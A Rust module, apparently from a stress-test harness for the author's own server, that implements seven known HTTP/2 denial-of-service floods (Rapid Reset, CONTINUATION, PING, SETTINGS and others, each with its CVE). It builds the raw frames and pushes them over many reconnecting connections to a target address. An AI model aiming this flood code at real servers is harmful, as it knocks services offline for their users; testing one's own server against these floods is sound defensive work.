//! HTTP/2 as it is not meant: what each of the protocol's known floods sends (RFC 9113 §10.5).

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};

use crate::http2::{
    self, CONTINUATION, DATA, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
};
use crate::running::{Running, connect_from, reset};

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Rudeness {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Settings whose acknowledgements nobody reads (CVE-2019-9515).
    Settings,
    /// Pings whose answers nobody reads (CVE-2019-9512).
    Pings,
    /// A head that never ends (CVE-2024-27316).
    Continuations,
    /// Frames of nothing (CVE-2019-9518).
    EmptyData,
    /// A window that grows by a byte at a time.
    WindowUpdates,
    /// Streams that are never given room for what they asked for (CVE-2019-9517).
    ShutWindow,
}

impl Rudeness {
    pub const ALL: [Self; 7] = [
        Self::RapidReset,
        Self::Settings,
        Self::Pings,
        Self::Continuations,
        Self::EmptyData,
        Self::WindowUpdates,
        Self::ShutWindow,
    ];

    /// Whether the hub ends whoever sends it. The others share its time with everybody, and get no more of it.
    pub fn is_ended(self) -> bool {
        matches!(self, Self::RapidReset | Self::Continuations | Self::ShutWindow)
    }

    /// What comes before the flood.
    fn overture(self) -> Vec<u8> {
        let path = "/api/sse/stream?channels=shared";
        let asking = http2::asking("localhost", path);
        match self {
            Self::Continuations => http2::frame(HEADERS, 0, 1, &asking),
            Self::EmptyData | Self::WindowUpdates => http2::frame(HEADERS, END_HEADERS, 1, &asking),
            _ => Vec::new(),
        }
    }

    /// A piece of the flood; `stream` is the first number that was not used.
    fn wave(self, stream: &mut u32) -> Vec<u8> {
        const FRAMES: usize = 64;
        /// A field that adds to the head and is no error: a literal without indexing (RFC 7541 §6.2.2).
        const FIELD: &[u8] = b"\x00\x01x\x20yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy";
        const SETTINGS_HEADER_TABLE_SIZE: [u8; 6] = [0, 1, 0, 0, 16, 0];
        let mut next = || {
            let this = *stream;
            *stream += 2;
            this
        };
        let frame = |_| match self {
            Self::RapidReset => {
                let this = next();
                let mut both = Vec::new();
                http2::get(&mut both, this, "localhost", "/api/sse/stream?channels=shared").expect("memory");
                both.extend(http2::frame(RST_STREAM, 0, this, &8_u32.to_be_bytes()));
                both
            }
            Self::Settings => http2::frame(SETTINGS, 0, 0, &SETTINGS_HEADER_TABLE_SIZE),
            Self::Pings => http2::frame(PING, 0, 0, &[7; 8]),
            Self::Continuations => http2::frame(CONTINUATION, 0, 1, FIELD),
            Self::EmptyData => http2::frame(DATA, 0, 1, &[]),
            Self::WindowUpdates => http2::frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()),
            Self::ShutWindow => {
                let mut ask = Vec::new();
                http2::get(&mut ask, next(), "localhost", "/api/sse/stats").expect("memory");
                ask
            }
        };
        (0..FRAMES).flat_map(frame).collect()
    }
}

/// One flooding connection.
struct Rude {
    io: TcpStream,
    stream: u32,
    /// What the kernel has not taken yet.
    left: Vec<u8>,
}

/// Floods on so many connections, and on a new one for each that the hub ends.
pub fn flood(target: SocketAddr, rudeness: Rudeness, count: usize, running: &Running) {
    let mut held: Vec<_> = (0..count).map(|place| open(place, target, rudeness)).collect();
    running.begun();
    let (mut sent, mut again) = (0_u64, 0_u64);
    while running.is_on_after(again) {
        for (place, slot) in held.iter_mut().enumerate() {
            if !running.is_on_after(again) {
                break;
            }
            match slot.as_mut().map(|rude| rude.push(rudeness)) {
                Some(Ok(bytes)) => sent += bytes as u64,
                _ => {
                    *slot = open(place, target, rudeness);
                    again += 1;
                }
            }
        }
    }
    running.say(format!("{sent} bytes of frames, {again} connections begun again"), again);
    held.iter().flatten().for_each(|rude| reset(&rude.io));
}

fn open(place: usize, target: SocketAddr, rudeness: Rudeness) -> Option<Rude> {
    let mut io = connect_from(place, target, None)?;
    let window = if rudeness == Rudeness::ShutWindow { 0 } else { 1 << 16 };
    http2::hello(&mut io, window).ok()?;
    io.write_all(&rudeness.overture()).ok()?;
    io.set_nonblocking(true).ok()?;
    Some(Rude { io, stream: 3, left: Vec::new() })
}

impl Rude {
    /// As much as the kernel takes, or the error that says that the hub had enough.
    fn push(&mut self, rudeness: Rudeness) -> std::io::Result<usize> {
        if rudeness == Rudeness::RapidReset || rudeness == Rudeness::ShutWindow {
            self.read()?;
        }
        if self.left.is_empty() && !(rudeness == Rudeness::ShutWindow && self.stream > 100) {
            self.left = rudeness.wave(&mut self.stream);
        }
        match self.io.write(&self.left) {
            Ok(n) => {
                self.left.drain(..n);
                Ok(n)
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(0),
            Err(error) => Err(error),
        }
    }

    fn read(&mut self) -> std::io::Result<()> {
        match self.io.read(&mut [0; 4096]) {
            Ok(0) => Err(ErrorKind::UnexpectedEof.into()),
            Err(error) if error.kind() != ErrorKind::WouldBlock => Err(error),
            _ => Ok(()),
        }
    }
}
